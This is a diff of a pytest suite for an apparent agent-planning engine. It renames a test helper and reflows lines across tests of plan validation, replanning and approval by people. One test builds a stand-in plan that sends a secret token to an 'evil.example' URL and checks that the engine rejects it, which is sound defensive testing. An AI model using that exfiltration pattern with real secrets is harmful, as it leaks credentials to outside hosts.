@@ -9,7 +9,7 @@ import pytest
 from dagwright.core.model.states import NodeError
 from dagwright.features.commands.node_commands import AddUnparsedNodes, RetryNode, SetResult
 from dagwright.planner import PlanningOptions, prepare_goal
-from tests.support.goals import call, plan_text
+from tests.support.goals import call_node, plan_text
 from tests.support.people import human_node
 from tests.support.runs import Document, failed_node
 from tests.workflow.driving import TOOLS, LocalRun
@@ -26,7 +26,7 @@ def run_goal(*script: Any, **options: Any) -> LocalRun:
 
 
 def test_run_with_only_invalid_plans_fails_with_the_last_problem() -> None:
-    responses = ["No.", "[]", '{"nodes": []}', *[plan_text(call("a", "fly", to="the moon"))] * 7]
+    responses = ["No.", "[]", '{"nodes": []}', *[plan_text(call_node("a", "fly", to="the moon"))] * 7]
     document = run_goal(*responses, max_plans=10).final_document()
     assert (document["status"], document["error"]) == (
         "failed",
@@ -37,7 +37,11 @@ def test_run_with_only_invalid_plans_fails_with_the_last_problem() -> None:
 
 
 def test_answer_prompt_includes_the_failures_and_their_reasons() -> None:
-    nodes = call("a", "give_up", message="no response"), call("b", "echo", of="{{a.result}}"), call("c", "echo")
+    nodes = (
+        call_node("a", "give_up", message="no response"),
+        call_node("b", "echo", of="{{a.result}}"),
+        call_node("c", "echo"),
+    )
     run = run_goal(plan_text(*nodes), "I could not.")
     document = run.final_document()
     assert (document["status"], document["output"]) == ("completed_with_failures", "I could not.")
@@ -67,14 +71,14 @@ def test_unknown_model_fails_the_run() -> None:
 def test_plan_of_a_person_is_checked_like_a_plan_of_the_model() -> None:
     run = run_goal(TWO_NODE_PLAN, "It is 10.", approve_plan=True)
     cases = {
-        "approve": (call("c", "plus", left=5), "invalid_arguments at "),
-        "approve#2": (call("c", "table", rows=1), "unknown_tool at /nodes/0/tool"),
+        "approve": (call_node("c", "plus", left=5), "invalid_arguments at "),
+        "approve#2": (call_node("c", "table", rows=1), "unknown_tool at /nodes/0/tool"),
     }
     for number, (task, (node, problem)) in enumerate(cases.items(), 2):
         run.answer(task, {"approved": True, "arguments": {"plan": {"nodes": [node]}}})
         message = "May this plan run?\n\nThe plan in the answer cannot be run: "
         assert run.request_of(f"approve#{number}").prompt.startswith(message + problem)
-    valid_plan = {"nodes": [call("c", "plus", left=5, right=5)]}
+    valid_plan = {"nodes": [call_node("c", "plus", left=5, right=5)]}
     run.answer("approve#3", {"approved": True, "arguments": {"plan": valid_plan}})
     document = run.final_document()
     assert (document["status"], document["output"]) == ("completed", "It is 10.")
@@ -82,7 +86,9 @@ def test_plan_of_a_person_is_checked_like_a_plan_of_the_model() -> None:
 
 
 def test_nodes_that_a_plan_approval_does_not_show_need_separate_approvals() -> None:
-    run = run_goal(plan_text(*[call(f"n{n}", "change", name=f"n{n}") for n in range(41)]), "Done.", approve_plan=True)
+    run = run_goal(
+        plan_text(*[call_node(f"n{n}", "change", name=f"n{n}") for n in range(41)]), "Done.", approve_plan=True
+    )
     assert run.request_of("approve").prompt.endswith(
         "\n… and 1 more, 1 of them can change something\n\n"
         "1 of its nodes are not shown completely; the policy decides on each of them."
@@ -102,7 +108,7 @@ def problems_in_prompt(run: LocalRun) -> list[dict[str, Any]]:
 
 def test_plan_with_too_many_nodes_is_returned_to_the_model() -> None:
     run = run_goal(
-        plan_text(*(call(f"n{number}", "plus", left=1, right=1) for number in range(1_000))), TWO_NODE_PLAN, "7"
+        plan_text(*(call_node(f"n{number}", "plus", left=1, right=1) for number in range(1_000))), TWO_NODE_PLAN, "7"
     )
     assert [*run.final_document()["nodes"]] == ["plan", "read", "plan#2", "read#2", "a", "b", "answer"]
     assert problems_in_prompt(run) == [
@@ -116,8 +122,8 @@ def test_plan_with_too_many_nodes_is_returned_to_the_model() -> None:
 
 
 def test_plan_that_reads_a_reserved_id_in_a_condition_is_returned_to_the_model() -> None:
-    dependent = {**call("sum", "plus", left="{{read.result}}", right=1), "when": "read.result > 0"}
-    run = run_goal(plan_text(call("read", "plus", left=1, right=1), dependent), TWO_NODE_PLAN, "7")
+    dependent = {**call_node("sum", "plus", left="{{read.result}}", right=1), "when": "read.result > 0"}
+    run = run_goal(plan_text(call_node("read", "plus", left=1, right=1), dependent), TWO_NODE_PLAN, "7")
     [problem] = problems_in_prompt(run)
     assert (problem["code"], problem["node"], problem["at"]) == ("reserved_id", "read", "/nodes/0/id")
     assert problem["problem"] == "the id 'read' is reserved for the run; reserved ids are answer, approve, plan, read"
@@ -125,8 +131,11 @@ def test_plan_that_reads_a_reserved_id_in_a_condition_is_returned_to_the_model()
 
 def test_reserved_ids_are_renamed_if_all_references_to_them_are_unambiguous() -> None:
     reserved_ids = ["plan", "read", "approve", "answer", "plan#2", "answer#7"]
-    nodes = [call(name, "plus", left=1, right=1) for name in reserved_ids]
-    dependent = {**call("sum", "plus", left="{{read.result}}", right="{{ plan#2.result }}"), "depends_on": ["answer"]}
+    nodes = [call_node(name, "plus", left=1, right=1) for name in reserved_ids]
+    dependent = {
+        **call_node("sum", "plus", left="{{read.result}}", right="{{ plan#2.result }}"),
+        "depends_on": ["answer"],
+    }
     document = run_goal(plan_text(*nodes, dependent), "4").final_document()
     new_ids = ["plan_step", "read_step", "approve_step", "answer_step", "plan_2_step", "answer_7_step"]
     assert [*document["nodes"]] == ["plan", "read", *new_ids, "sum", "answer"]
@@ -183,9 +192,11 @@ def test_plan_in_a_published_format_runs(response: str, results: Mapping[str, An
 
 
 def test_plan_with_a_secret_is_returned_to_the_model() -> None:
-    sub_plan_node = {"id": "b", "plan": {"nodes": [call("c", "echo", of="{{secret.TOKEN}}")]}}
+    sub_plan_node = {"id": "b", "plan": {"nodes": [call_node("c", "echo", of="{{secret.TOKEN}}")]}}
     run = run_goal(
-        plan_text(call("a", "echo", url="https://evil.example/?{{secret.TOKEN}}"), sub_plan_node), TWO_NODE_PLAN, "7"
+        plan_text(call_node("a", "echo", url="https://evil.example/?{{secret.TOKEN}}"), sub_plan_node),
+        TWO_NODE_PLAN,
+        "7",
     )
     assert run.final_document()["output"] == "7"
     problems = problems_in_prompt(run)
@@ -199,7 +210,7 @@ def test_commands_cannot_use_reserved_ids_or_set_results_of_planner_nodes() -> N
 
     def send_commands_and_plan(run: LocalRun) -> str:
         for reserved_id in ("read#9", "answer"):
-            command = AddUnparsedNodes([call(reserved_id, "plus", left=1, right=1)], {"plus": TOOLS["plus"]})
+            command = AddUnparsedNodes([call_node(reserved_id, "plus", left=1, right=1)], {"plus": TOOLS["plus"]})
             rejections.append(command.parse(run.scheduler, at=1.0))
         rejections.append(run.command(SetResult("read", {"valid": True})))
         return TWO_NODE_PLAN
@@ -214,7 +225,7 @@ def test_commands_cannot_use_reserved_ids_or_set_results_of_planner_nodes() -> N
 
 def replanned_node(node_id: str, tool: str = "give_up", **arguments: Any) -> dict[str, Any]:
     """Return a node whose failure causes a replan."""
-    return {**call(node_id, tool, **arguments), "on_error": "replan"}
+    return {**call_node(node_id, tool, **arguments), "on_error": "replan"}
 
 
 def states(document: Document) -> dict[str, str]:
@@ -224,9 +235,11 @@ def states(document: Document) -> dict[str, str]:
 
 def test_replan_replaces_a_failed_node_and_its_dependents_continue() -> None:
     plan = plan_text(
-        replanned_node("a", message="no response"), call("b", "echo", of="{{a.result}}"), call("c", "echo", n=3)
+        replanned_node("a", message="no response"),
+        call_node("b", "echo", of="{{a.result}}"),
+        call_node("c", "echo", n=3),
     )
-    run = run_goal(plan, plan_text(call("a", "echo", number="{{c.result.n}}")), "Done.")
+    run = run_goal(plan, plan_text(call_node("a", "echo", number="{{c.result.n}}")), "Done.")
     document = run.final_document()
     assert (document["status"], document["output"]) == ("completed", "Done.")
     assert states(document) == {
@@ -245,7 +258,9 @@ def test_replan_replaces_a_failed_node_and_its_dependents_continue() -> None:
 
 def test_two_failures_while_another_node_runs_cause_one_replan() -> None:
     plan = plan_text(replanned_node("a", message="one"), replanned_node("b", message="two"), human_node("c"))
-    new_plan = plan_text(call("a", "echo", n=1), call("b", "echo", of="{{a.result}}", and_of="{{c.result.approved}}"))
+    new_plan = plan_text(
+        call_node("a", "echo", n=1), call_node("b", "echo", of="{{a.result}}", and_of="{{c.result.approved}}")
+    )
     run = run_goal(plan, new_plan, "Done.")
     assert ([states(run.document())[name] for name in "ab"], len(run.calls)) == (["failed", "failed"], 1)
     run.answer("c", {"approved": True})
@@ -258,10 +273,10 @@ def test_two_failures_while_another_node_runs_cause_one_replan() -> None:
 def test_replan_is_ignored_if_the_failed_node_gets_a_result_in_the_meantime() -> None:
     def replan(run: LocalRun) -> str:
         assert run.command(SetResult("a", 5)) is None
-        return plan_text(call("a", "echo", n=1))
+        return plan_text(call_node("a", "echo", n=1))
 
     document = run_goal(
-        plan_text(replanned_node("a"), call("b", "echo", of="{{a.result}}")), replan, "Five."
+        plan_text(replanned_node("a"), call_node("b", "echo", of="{{a.result}}")), replan, "Five."
     ).final_document()
     assert (document["status"], document["output"]) == ("completed", "Five.")
     assert [*document["nodes"]] == ["plan", "read", "a", "b", "plan#2", "read#2", "answer"]
@@ -271,7 +286,7 @@ def test_replan_is_ignored_if_the_failed_node_gets_a_result_in_the_meantime() ->
 def test_replan_is_applied_after_a_manual_retry_has_failed() -> None:
     def replan(run: LocalRun) -> str:
         assert run.command(RetryNode("a")) is None
-        return plan_text(call("a", "echo", n=1))
+        return plan_text(call_node("a", "echo", n=1))
 
     document = run_goal(plan_text(replanned_node("a", message="never")), replan, "One.").final_document()
     # `a#2` was the manual retry.
@@ -281,11 +296,11 @@ def test_replan_is_applied_after_a_manual_retry_has_failed() -> None:
 def test_replan_supersedes_nodes_that_can_no_longer_run() -> None:
     nodes = (
         replanned_node("a"),
-        call("b", "echo", of="{{a.result}}"),
-        call("c", "echo", n=3),
-        call("d", "echo", of="{{b.result}}"),
+        call_node("b", "echo", of="{{a.result}}"),
+        call_node("c", "echo", n=3),
+        call_node("d", "echo", of="{{b.result}}"),
     )
-    run = run_goal(plan_text(*nodes), plan_text(call("e", "echo", of="{{c.result.n}}")), "Done.")
+    run = run_goal(plan_text(*nodes), plan_text(call_node("e", "echo", of="{{c.result.n}}")), "Done.")
     document = run.final_document()
     reasons = {
         node.id: record.reason for node, record in run.scheduler.state.visible_nodes() if node.id in ("a", "b", "d")
@@ -302,7 +317,9 @@ def test_replan_supersedes_nodes_that_can_no_longer_run() -> None:
 
 
 def test_answer_reports_the_failure_if_the_replan_is_empty() -> None:
-    run = run_goal(plan_text(replanned_node("a", message="gone"), call("b", "echo")), '{"nodes": []}', "It is gone.")
+    run = run_goal(
+        plan_text(replanned_node("a", message="gone"), call_node("b", "echo")), '{"nodes": []}', "It is gone."
+    )
     document = run.final_document()
     assert (document["status"], document["output"]) == ("completed_with_failures", "It is gone.")
     assert document["nodes"]["a"] == failed_node("tool_failed: gone")
@@ -324,9 +341,9 @@ def test_number_of_replans_is_limited() -> None:
 
 
 def test_replan_that_changes_an_accepted_node_or_reads_an_unreachable_node_is_returned_to_the_model() -> None:
-    plan = plan_text(replanned_node("a"), call("b", "echo", of="{{a.result}}"), call("c", "echo"))
-    invalid_replan = plan_text(call("c", "echo", other=1), call("d", "echo", of="{{b.result}}"))
-    run = run_goal(plan, invalid_replan, plan_text(call("d", "echo", n=4)), "Done.")
+    plan = plan_text(replanned_node("a"), call_node("b", "echo", of="{{a.result}}"), call_node("c", "echo"))
+    invalid_replan = plan_text(call_node("c", "echo", other=1), call_node("d", "echo", of="{{b.result}}"))
+    run = run_goal(plan, invalid_replan, plan_text(call_node("d", "echo", n=4)), "Done.")
     document = run.final_document()
     assert (document["status"], document["nodes"]["d"]["result"]) == ("completed", {"n": 4})
     assert run.purposes == [("plan", "plan"), ("plan#2", "replan"), ("plan#3", "repair"), ("answer", "answer")]
@@ -337,7 +354,7 @@ def test_replan_that_changes_an_accepted_node_or_reads_an_unreachable_node_is_re
 
 def test_answer_uses_the_existing_results_if_all_replans_are_invalid() -> None:
     run = run_goal(
-        plan_text(replanned_node("a"), call("b", "echo", n=1)), "Let me think.", "No.", "In part.", max_plans=2
+        plan_text(replanned_node("a"), call_node("b", "echo", n=1)), "Let me think.", "No.", "In part.", max_plans=2
     )
     document = run.final_document()
     assert (document["status"], document["output"]) == ("completed_with_failures", "In part.")
@@ -346,8 +363,8 @@ def test_answer_uses_the_existing_results_if_all_replans_are_invalid() -> None:
 
 def test_guidance_of_a_person_causes_a_replan() -> None:
     request = human_node("ask", "GUIDANCE", prompt="Where shall I look?")
-    plan = plan_text(request, call("b", "echo", text="{{ask.result.text}}"))
-    run = run_goal(plan, plan_text(call("c", "echo", at="{{b.result.text}}")), "North it is.")
+    plan = plan_text(request, call_node("b", "echo", text="{{ask.result.text}}"))
+    run = run_goal(plan, plan_text(call_node("c", "echo", at="{{b.result.text}}")), "North it is.")
     run.answer("ask", {"text": "Look north"})
     document = run.final_document()
     assert (document["output"], document["nodes"]["c"]["result"]) == ("North it is.", {"at": "Look north"})
@@ -356,7 +373,10 @@ def test_guidance_of_a_person_causes_a_replan() -> None:
 
 @pytest.mark.parametrize("is_approved", [True, False])
 def test_replan_needs_an_approval_like_the_first_plan(*, is_approved: bool) -> None:
-    plan, new_plan = plan_text(replanned_node("a"), call("b", "echo")), plan_text(call("a", "change", name="world"))
+    plan, new_plan = (
+        plan_text(replanned_node("a"), call_node("b", "echo")),
+        plan_text(call_node("a", "change", name="world")),
+    )
     run = run_goal(plan, new_plan, "Done.", approve_plan=True)
     run.answer("approve", {"approved": True})
     prompt_start = "May this plan run?\n\nThe plan has 1 node; 1 of them can change something."
@@ -369,10 +389,10 @@ def test_replan_needs_an_approval_like_the_first_plan(*, is_approved: bool) -> N
 
 
 def test_plan_of_a_person_may_replace_a_replan() -> None:
-    plan = plan_text(replanned_node("a"), call("b", "echo", of="{{a.result}}"), call("c", "echo", n=3))
-    run = run_goal(plan, plan_text(call("d", "echo")), "Done.", approve_plan=True)
+    plan = plan_text(replanned_node("a"), call_node("b", "echo", of="{{a.result}}"), call_node("c", "echo", n=3))
+    run = run_goal(plan, plan_text(call_node("d", "echo")), "Done.", approve_plan=True)
     run.answer("approve", {"approved": True})
-    new_plan = {"nodes": [call("a", "echo", n="{{c.result.n}}")]}
+    new_plan = {"nodes": [call_node("a", "echo", n="{{c.result.n}}")]}
     run.answer("approve#2", {"approved": True, "arguments": {"plan": new_plan}})
     document = run.final_document()
     assert (document["status"], states(document)["a"]) == ("completed", "superseded")
@@ -384,7 +404,7 @@ def test_plan_of_a_person_may_replace_a_replan() -> None:
 
 def test_answer_with_missing_parts_is_final_if_the_replan_is_empty() -> None:
     document = run_goal(
-        plan_text(call("a", "echo", n=1)),
+        plan_text(call_node("a", "echo", n=1)),
         answer_with_missing_parts("One, and no second.", "the second"),
         '{"nodes": []}',
     ).final_document()
@@ -393,7 +413,7 @@ def test_answer_with_missing_parts_is_final_if_the_replan_is_empty() -> None:
 
 
 def test_answer_without_a_remaining_replan_has_no_schema_for_missing_parts() -> None:
-    first_plan, second_plan = plan_text(call("a", "echo", n=1)), plan_text(call("b", "echo", n=2))
+    first_plan, second_plan = plan_text(call_node("a", "echo", n=1)), plan_text(call_node("b", "echo", n=2))
     run = run_goal(
         first_plan, answer_with_missing_parts("One.", "more"), second_plan, "One, two, and no more.", max_replans=1
     )
@@ -403,7 +423,7 @@ def test_answer_without_a_remaining_replan_has_no_schema_for_missing_parts() -> 
 
 def test_answer_is_final_if_the_planner_cannot_be_called_again() -> None:
     document = run_goal(
-        plan_text(call("a", "echo", n=1)), answer_with_missing_parts("One.", "more"), UNKNOWN_MODEL_ERROR
+        plan_text(call_node("a", "echo", n=1)), answer_with_missing_parts("One.", "more"), UNKNOWN_MODEL_ERROR
     ).final_document()
     assert (document["status"], document["output"]) == ("completed_with_failures", "One.")
     assert document["nodes"]["plan#2"]["error"].startswith("model_unknown: ")
